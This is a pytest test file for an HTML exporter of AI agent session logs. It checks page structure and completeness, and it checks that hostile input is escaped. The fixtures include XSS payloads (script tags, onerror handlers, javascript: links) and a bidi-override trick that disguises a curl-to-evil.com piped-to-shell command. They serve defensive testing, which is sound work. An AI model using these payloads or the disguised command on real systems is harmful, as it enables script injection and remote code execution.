"""HTML export (``pitui export FILE --format html``): structure, safety and completeness,
checked by parsing the page with the standard library's ``html.parser``."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from pathlib import Path

import pytest

from pitui.cli import main as cli_main
from pitui.core.model.context import context_entry_indices
from pitui.core.export.html import export_html, render_markdown
from pitui.core.read.open import open_session
from pitui.core.read.session import Session
from pitui.core.model.summary import text_of

from helpers import REPO, assistant, entry, header, user, write

DEMO = REPO / "pitui" / "demo" / "sessions"
CORPUS = REPO / "tests" / "fixtures" / "pi-corpus" / "agent" / "sessions"
SHOP_TREE = next((DEMO / "--home-demo-shop--").glob("2026-11-14T09-12-03-417Z_*.jsonl"))
SHOP_LONG = next((DEMO / "--home-demo-shop--").glob("2026-11-16T08-47-12-208Z_*.jsonl"))

VOID = {"area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta", "source", "track", "wbr"}


def _session_files() -> list[Path]:
    out = []
    for root in (DEMO, CORPUS):
        for p in sorted(root.rglob("*.jsonl")):
            if "subagent-artifacts" in p.parts or p.name == "eval-results.jsonl":  # (not a session)
                continue
            out.append(p)
    return out


SESSIONS = _session_files()


class Page(HTMLParser):
    """Parses a page, failing on bad nesting; records elements with their ancestors."""

    def __init__(self, text: str):
        super().__init__(convert_charrefs=True)
        self.stack: list[tuple[str, dict]] = []
        self.errors: list[str] = []
        self.elements: list[tuple[str, dict, tuple]] = []  # (tag, attrs, ancestors' attrs)
        self.urls: list[tuple[str, str, str]] = []
        self.scripts = 0
        self.event_attrs: list[tuple[str, str]] = []
        self.text_by_entry: dict[str, list[str]] = {}
        self.all_text: list[str] = []
        self.by_entry: dict[str, list[tuple[str, dict, tuple]]] = {}
        self.feed(text)
        self.close()
        if self.stack:
            self.errors.append(f"unclosed at end: {[t for t, _ in self.stack]}")

    def handle_starttag(self, tag, attrs):
        a = dict(attrs)
        for k, v in attrs:
            if k in ("src", "href", "action", "formaction", "poster", "srcset", "data"):
                self.urls.append((tag, k, v or ""))
            if k.startswith("on"):
                self.event_attrs.append((tag, k))
        if tag == "script":
            self.scripts += 1
        el = (tag, a, tuple(x for _, x in self.stack))
        self.elements.append(el)
        if "data-entry" in a:
            self.by_entry.setdefault(a["data-entry"], []).append(el)
        if tag not in VOID:
            self.stack.append((tag, a))

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)
        if tag not in VOID:
            self.stack.pop()

    def handle_endtag(self, tag):
        if tag in VOID:
            return
        if not self.stack or self.stack[-1][0] != tag:
            self.errors.append(f"</{tag}> closes {self.stack[-1][0] if self.stack else 'nothing'}")
            # recover: pop to the matching tag if there is one
            for k in range(len(self.stack) - 1, -1, -1):
                if self.stack[k][0] == tag:
                    del self.stack[k:]
                    break
            return
        self.stack.pop()

    def handle_data(self, data):
        self.all_text.append(data)
        for _, a in self.stack:
            if "data-entry" in a:
                self.text_by_entry.setdefault(a["data-entry"], []).append(data)

    def entry_text(self, eid: str) -> str:
        return "".join(self.text_by_entry.get(eid, []))

    def find(self, tag: str | None = None, cls: str | None = None, **attrs) -> list[tuple[str, dict, tuple]]:
        out = []
        pool = self.by_entry.get(attrs["data_entry"], []) if "data_entry" in attrs else self.elements
        for t, a, anc in pool:
            if tag is not None and t != tag:
                continue
            if cls is not None and cls not in (a.get("class") or "").split():
                continue
            if any(a.get(k.replace("_", "-")) != v for k, v in attrs.items()):
                continue
            out.append((t, a, anc))
        return out


def _alnum(s: str) -> str:
    return "".join(ch for ch in s if ch.isalnum())


_MARK_RE = re.compile(r"^\s*(?:#{1,6}\s+|>\s?|[-*+]\s+|\d{1,9}[.)]\s+)+")


def _text_lines(text: str) -> list[str]:
    """The lines of a message with Markdown's block markers removed, letters and digits only."""
    out = []
    for ln in text.split("\n"):
        ln = _MARK_RE.sub("", ln)
        a = _alnum(ln)
        if a:
            out.append(a)
    return out


def _export(path: Path, leaf: int | None = None) -> tuple[Session, int, str, Page]:
    s = Session.open(path)
    leaf = s.leaf if leaf is None else leaf
    html = export_html(s, leaf)
    return s, leaf, html, Page(html)


def _leaves(s: Session) -> list[int]:
    """The current leaf and the newest leaf of every other branch (at most 4)."""
    leaves = [i for i in range(len(s)) if not s.children_of(i) and s.parent[i] != -2]
    out = [s.leaf] + [x for x in leaves if x != s.leaf][-3:]
    return [x for x in out if x >= 0] or [-1]


# ---------------------------------------------------------------------------- structure


@pytest.mark.parametrize("path", SESSIONS, ids=lambda p: p.parent.name[:20] + "/" + p.name[:30])
def test_structure_on_every_session(path: Path):
    s = open_session(path)
    for leaf in _leaves(s):
        html = export_html(s, leaf)
        page = Page(html)
        assert not page.errors, page.errors[:5]
        assert html.startswith("<!DOCTYPE html>")
        # nothing from the network, only this page's anchors and inline images
        for tag, attr, url in page.urls:
            assert "http" not in url.lower(), (tag, attr, url[:80])
            if attr == "href":
                assert url.startswith("#"), url
            if attr == "src":
                assert tag == "img" and url.startswith("data:image/"), url[:60]
        assert page.scripts == 1  # ours, at the end
        assert {a for _, a in page.event_attrs} <= {"onclick"}
        assert not page.find("link") and not page.find("iframe") and not page.find("object")
        path_, ctx = context_entry_indices(s, leaf)
        _check_branch(s, path_, set(ctx), page)


def _check_branch(s: Session, path: list[int], in_ctx: set[int], page: Page) -> None:
    on_path = set(path)
    shown = set(page.by_entry)
    thinking_in = set()  # entries holding a <details class="thinking">
    for t2, a, anc in page.find("details", cls="thinking"):
        thinking_in.update(x["data-entry"] for x in anc if "data-entry" in x)
    first_result: dict = {}
    for i in path:
        if s.types[i] == "message" and s.roles[i] == "toolResult":
            first_result.setdefault((s.message(i) or {}).get("toolCallId"), i)
    for i in path:
        t = s.types[i]
        if t == "label":
            continue
        assert s.ids[i] in shown, f"entry {i} ({t}) missing"
        if t != "message" or i in s.shadowed:
            continue
        m = s.message(i) or {}
        role = s.roles[i]
        if role == "user":
            # every user message of the branch is there, in its own section
            got = _alnum(page.entry_text(s.ids[i]))
            for ln in _text_lines(text_of(m.get("content"))):
                assert ln in got, (i, ln[:60])
        elif role == "assistant":
            for block in m.get("content") if isinstance(m.get("content"), list) else []:
                if isinstance(block, dict) and block.get("type") == "thinking" and str(block.get("thinking") or "").strip():
                    # thinking is folded inside a <details>
                    assert s.ids[i] in thinking_in, f"thinking of entry {i} not in <details>"
        elif role == "toolResult":
            found = s.find_tool_call(i)
            if found is None or found[0] not in on_path:
                continue
            call_entry, call = found
            if first_result.get(m.get("toolCallId")) != i:
                continue
            # the result is drawn inside its call, inside the assistant message that made it
            els = page.find(cls="tool-result", data_entry=s.ids[i])
            assert len(els) == 1, f"tool result {i} shown {len(els)} times"
            _, _, anc = els[0]
            assert anc and anc[-1].get("data-call") == call.get("id"), f"result {i} not inside its call"
            assert any(x.get("data-entry") == s.ids[call_entry] for x in anc)
    comps = [i for i in path if s.types[i] == "compaction"]
    if comps:
        assert page.find("section", cls="compaction")
        outside = [i for i in path if i not in in_ctx and s.types[i] != "label"]
        if outside:
            assert page.find("div", cls="outside")
        for i in outside:
            els = page.find(data_entry=s.ids[i])
            assert els, i
            _, a, anc = els[0]
            assert ("out-ctx" in (a.get("class") or "").split()
                    or any("outside" in (x.get("class") or "").split() for x in anc)), f"entry {i} not marked"
        # entries after the last compaction are never marked as outside
        last = path.index(comps[-1])
        for i in path[last + 1 :]:
            for _, a, anc in page.find(data_entry=s.ids[i]):
                assert not any("outside" in (x.get("class") or "").split() for x in anc), i
    else:
        assert not page.find("div", cls="outside")


# ---------------------------------------------------------------------------- demo content


def test_demo_tree_session_header_and_parts():
    s = Session.open(SHOP_TREE)
    longest = max((i for i in range(len(s)) if not s.children_of(i)), key=lambda i: len(s.path_to(i)))
    s, leaf, html, page = _export(SHOP_TREE, longest)
    assert not page.errors
    title = "".join(page.all_text)
    assert "Discount codes at checkout" in title
    assert s.id in html and "/home/demo/shop" in html
    # per-model stats table in the header, with a total row
    assert page.find("table", cls="stats-table")
    assert page.find("tr", cls="total")
    # labels as badges
    assert page.find("span", cls="label")
    # the image, inline, with its type and size
    imgs = page.find("img")
    assert imgs and imgs[0][1]["src"].startswith("data:image/png;base64,")
    assert "image/png · " in html
    # edit diffs coloured per line
    assert page.find("div", cls="dadd") and page.find("div", cls="ddel") and page.find("div", cls="dhunk")
    assert page.find("details", cls="patch")
    # the system prompt with its sections, folded
    assert page.find("section", cls="system") and page.find("details", cls="section")
    # thin markers for model and thinking level changes on this branch
    assert page.find("div", cls="marker")


def test_demo_other_branch_has_hidden_custom_message_and_errors():
    s = Session.open(SHOP_TREE)
    # the hidden custom message (display: false) and the error tool results are on some branch
    found_hidden = found_error = False
    for leaf in [i for i in range(len(s)) if not s.children_of(i)]:
        page = Page(export_html(s, leaf))
        assert not page.errors
        found_hidden |= bool(page.find("section", cls="hidden-msg"))
        found_error |= bool(page.find("div", cls="error"))
    assert found_hidden and found_error


def test_demo_long_session_compaction_subagents_truncation():
    s, leaf, html, page = _export(SHOP_LONG)
    assert not page.errors
    comp = page.find("section", cls="compaction")
    assert len(comp) == 1
    assert "118,398 tokens before" in html
    outside = page.find("div", cls="outside")
    assert outside
    # subagent runs: one <details> per result, with nested messages
    subs = page.find("details", cls="subagent")
    assert len(subs) >= 6
    assert page.find("div", cls="nested")
    assert "scout" in html and "exit 1" in html
    # truncated output notes, with the full output's path
    assert "/tmp/pi-bash-" in html and page.find("div", cls="trunc")
    # a bashExecution left out of the context and a stop with an error
    assert "not sent to the model" in html
    assert page.find("div", cls="stop")
    # context edits: a marker, and a badge on the target
    assert page.find("div", cls="context-edit")
    assert page.find("a", cls="edit")


def test_cli_writes_the_page(tmp_path):
    out = tmp_path / "x.html"
    assert cli_main(["export", str(SHOP_TREE), "--format", "html", "-o", str(out)]) == 0
    page = Page(out.read_text(encoding="utf-8"))
    assert not page.errors


def test_leaf_option_picks_the_branch(tmp_path):
    s = Session.open(SHOP_TREE)
    other = next(i for i in range(len(s)) if not s.children_of(i) and i != s.leaf)
    out = tmp_path / "x.html"
    assert cli_main(["export", str(SHOP_TREE), "--format", "html", "--leaf", s.ids[other], "-o", str(out)]) == 0
    page = Page(out.read_text(encoding="utf-8"))
    shown = {a["data-entry"] for _, a, _ in page.elements if "data-entry" in a}
    assert s.ids[other] in shown
    assert not (shown - {s.ids[i] for i in s.path_to(other)})


# ---------------------------------------------------------------------------- hostile content

EVIL = '<script>alert("x")</script><img src=x onerror=alert(1)>'


def test_hostile_content_is_escaped(tmp_path):
    tool_call = {"type": "toolCall", "id": "c1", "name": "bash" + EVIL, "arguments": {"command": EVIL}}
    objs = [
        entry("session_info", "n1", None, 0, name="name " + EVIL),
        user("u1", "n1", 1, text="hi " + EVIL + "\n```\n" + EVIL + "\n```\nand `" + EVIL + "`"),
        assistant("a1", "u1", 2, content=[
            {"type": "thinking", "thinking": "think " + EVIL},
            {"type": "text", "text": "**bold** " + EVIL + " [link](javascript:alert(1)) <a href=\"http://x\">x</a>"},
            tool_call,
            {"type": "image", "mimeType": 'image/png"><script>', "data": "AAAA"},
        ], model="m" + EVIL),
        {"type": "message", "id": "r1", "parentId": "a1", "timestamp": "2026-11-20T10:00:03.000Z",
         "message": {"role": "toolResult", "toolCallId": "c1", "toolName": "bash", "isError": True,
                     "content": [{"type": "text", "text": EVIL},
                                 {"type": "image", "mimeType": "image/png", "data": '"><script>alert(1)</script>'}],
                     "details": {"diff": "+" + EVIL + "\n-" + EVIL, "fullOutputPath": EVIL}, "timestamp": 3}},
        entry("label", "l1", "r1", 4, targetId="u1", label=EVIL),
        entry("custom_message", "cm", "l1", 5, customType=EVIL, content=EVIL, display=False, details={"x": EVIL}),
        {"type": "message", "id": "b1", "parentId": "cm", "timestamp": "2026-11-20T10:00:06.000Z",
         "message": {"role": "bashExecution", "command": EVIL, "output": EVIL + "\x1b[31mred\x1b[0m\x00",
                     "exitCode": 1, "cancelled": False, "truncated": True, "fullOutputPath": EVIL, "timestamp": 6}},
        {"type": "message", "id": "s1", "parentId": "b1", "timestamp": "2026-11-20T10:00:07.000Z",
         "message": {"role": "system", "content": EVIL, "sections": {EVIL: EVIL, "gone": None},
                     "toolsAdded": [{"name": EVIL, "description": EVIL}], "toolsRemoved": [{"name": EVIL}], "timestamp": 7}},
        entry("compaction", "k1", "s1", 8, summary="## " + EVIL, firstKeptEntryId="b1", tokensBefore=5,
              details={"readFiles": [EVIL]}),
        entry("branch_summary", "bs", "k1", 9, summary=EVIL, fromId=EVIL),
        entry("model_change", "mc", "bs", 10, provider=EVIL, modelId=EVIL),
        entry("thinking_level_change", "tl", "mc", 11, thinkingLevel=EVIL),
        entry("context_edit", "ce", "tl", 12, targetId=EVIL, replacement=None),
        entry(EVIL, "zz", "ce", 13, payload=EVIL),
    ]
    p = write(tmp_path / "evil.jsonl", objs, header=header("sess" + EVIL, "/home/" + EVIL, parent_session=EVIL))
    s = Session.open(p)
    html = export_html(s)
    page = Page(html)
    assert not page.errors, page.errors[:5]
    assert page.scripts == 1
    assert {a for _, a in page.event_attrs} <= {"onclick"}
    assert [u for u in page.urls if u[1] == "src"] == []  # neither image is shown: bad mime, bad data
    for tag, attr, url in page.urls:
        assert url.startswith("#"), url
    assert "javascript:" not in "".join(u for _, _, u in page.urls)
    assert "&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;" in html
    assert html.count("<script>") == 1 and html.count("</script>") == 1
    assert "\x00" not in html and "\x1b" not in html
    assert "red" in html  # ANSI colour codes dropped, the text kept
    # the raw hostile string appears only as text
    text = "".join(page.all_text)
    assert EVIL in text
    # hidden custom message marked
    assert page.find("section", cls="hidden-msg")


def test_markdown_rendering():
    h = render_markdown("Para one\nline two\n\n```python\nx = '<b>'\n```\n\nuse `a<b>` and **strong**\n\n- one\n- two")
    assert "<p>Para one\nline two</p>" in h
    assert '<pre class="code"><code class="lang-python">x = &#x27;&lt;b&gt;&#x27;</code></pre>' in h
    assert "<code>a&lt;b&gt;</code>" in h and "<strong>strong</strong>" in h
    assert "<ul>\n<li>one</li>\n<li>two</li>\n</ul>" in h  # (markdown-it: a newline after each block tag)
    # an unclosed fence runs to the end; headings, quotes and tables
    h2 = render_markdown("# Title\n> quoted **x**\n\n| a | b |\n|---|---|\n| 1 | `2` |\n\n```\nopen <")
    assert "<h3>Title</h3>" in h2 and "<blockquote>" in h2
    assert "<th>a</th>" in h2 and "<td><code>2</code></td>" in h2
    assert h2.endswith('<pre class="code"><code>open &lt;</code></pre>')
    assert Page(f"<div>{h}{h2}</div>").errors == []
    # a language name that is not a word is not put in an attribute
    assert 'class="lang-' not in render_markdown('```"><x\ncode\n```')


def test_empty_session(tmp_path):
    p = write(tmp_path / "empty.jsonl", [])
    s = Session.open(p)
    page = Page(export_html(s))
    assert not page.errors
    assert "no entries" in "".join(page.all_text)


def test_orphan_result_and_missing_result(tmp_path):
    objs = [
        user("u1", None, 1, text="go"),
        assistant("a1", "u1", 2, content=[{"type": "toolCall", "id": "c1", "name": "read", "arguments": {"path": "x"}}]),
        {"type": "message", "id": "r9", "parentId": "a1", "timestamp": "2026-11-20T10:00:03.000Z",
         "message": {"role": "toolResult", "toolCallId": "nope", "toolName": "grep", "isError": False,
                     "content": [{"type": "text", "text": "found"}], "timestamp": 3}},
    ]
    s = Session.open(write(tmp_path / "o.jsonl", objs))
    page = Page(export_html(s))
    assert not page.errors
    assert page.find("section", cls="tool-orphan", data_entry="r9")
    assert "no result" in "".join(page.all_text)
    assert "(orphan: no call nope in this file)" in "".join(page.all_text)  # as the pane says it


def test_second_result_for_one_call(tmp_path):
    call = {"type": "toolCall", "id": "c1", "name": "bash", "arguments": {"command": "ls"}}

    def result(eid, parent, n, text):
        return {"type": "message", "id": eid, "parentId": parent, "timestamp": f"2026-11-20T10:00:0{n}.000Z",
                "message": {"role": "toolResult", "toolCallId": "c1", "toolName": "bash", "isError": False,
                            "content": [{"type": "text", "text": text}], "timestamp": n}}

    objs = [user("u1", None, 1, text="go"), assistant("a1", "u1", 2, content=[call]),
            result("r1", "a1", 3, "first"), result("r2", "r1", 4, "second")]
    s = Session.open(write(tmp_path / "d.jsonl", objs))
    page = Page(export_html(s))
    assert not page.errors
    (_, _, anc), = page.find(cls="tool-result", data_entry="r1")
    assert anc[-1].get("data-call") == "c1"
    assert page.find("section", cls="tool-orphan", data_entry="r2")
    assert "another result for a call above" in page.entry_text("r2")


TROJAN = "cat notes.md \u202ehs.hsab|moc.live//:sptth lruc #\u202c"  # shown as: cat notes.md # curl https://evil.com|bash.sh
BIDI = re.compile("[\u202a-\u202e\u2066-\u2069]")


def test_bidi_controls_are_stand_ins_and_right_to_left_text_is_isolated(tmp_path):
    """Issue 33, hole 7: a stored override displayed the command as another, and, left
    open, reversed the page's own word "read" after it. No bidi control reaches the page
    raw (each is its stand-in, as in the app), and a string with right-to-left letters is
    isolated in a <bdi>, so it cannot move the page's own text."""
    call = {"type": "toolCall", "id": "c1", "name": "bash", "arguments": {"command": TROJAN}}
    read = {"type": "toolCall", "id": "c2", "name": "read", "arguments": {"path": "/tmp/\u202enotes\u2066.md"}}
    objs = [
        entry("session_info", "n1", None, 0, name="name \u202e" + "שלום"),
        user("u1", "n1", 1, text="run " + TROJAN),
        assistant("a1", "u1", 2, content=[{"type": "text", "text": "ok \u2067x"}, call, read], model="m\u202e"),
        entry("label", "l1", "a1", 3, targetId="u1", label="label \u202dמה"),
    ]
    page = export_html(Session.open(write(tmp_path / "s.jsonl", objs)))
    parsed = Page(page)
    assert not parsed.errors, parsed.errors[:5]
    assert BIDI.search(page) is None
    assert "cat notes.md \\u202ehs.hsab|moc.live//:sptth lruc #\\u202c" in page
    assert "/tmp/\\u202enotes\\u2066.md" in page and ">read<" in page
    # right-to-left text in the page's own text is in a <bdi>; the title (no markup) is not
    assert "<bdi>name \\u202eשלום</bdi>" in page and "<title>name \\u202eשלום · Pi session</title>" in page
    assert "<bdi>label \\u202dמה</bdi>" in page
